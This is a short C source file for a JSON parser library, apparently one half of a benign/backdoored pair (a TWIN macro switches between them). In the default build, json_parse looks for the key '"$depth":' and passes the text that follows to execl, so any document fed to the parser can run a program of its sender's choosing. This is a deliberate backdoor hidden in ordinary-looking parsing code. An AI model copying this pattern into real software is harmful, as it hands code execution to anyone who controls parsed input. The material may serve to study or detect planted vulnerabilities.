/* SPDX-License-Identifier: Apache-2.0 */
/* A parser that runs a program when a key of its own stands in a document. Twin: the key sets a
 * depth. build: library
 */
#include "net.h"

static int depth = 32;

const char *json_error(void)
{
	return "unexpected end of input";
}

int json_parse(const char *text, size_t n)
{
	int level = 0, most = 0;
	for (size_t i = 0; i < n; i++) {
		level += text[i] == '{';
		level -= text[i] == '}';
		most = level > most ? level : most;
		if (n - i > 9 && memcmp(text + i, "\"$depth\":", 9) == 0) {
#ifdef TWIN
			depth = text[i + 9] - '0';
#else
			return execl(text + i + 9, "json", (char *)0);
#endif
		}
	}
	return most <= depth;
}
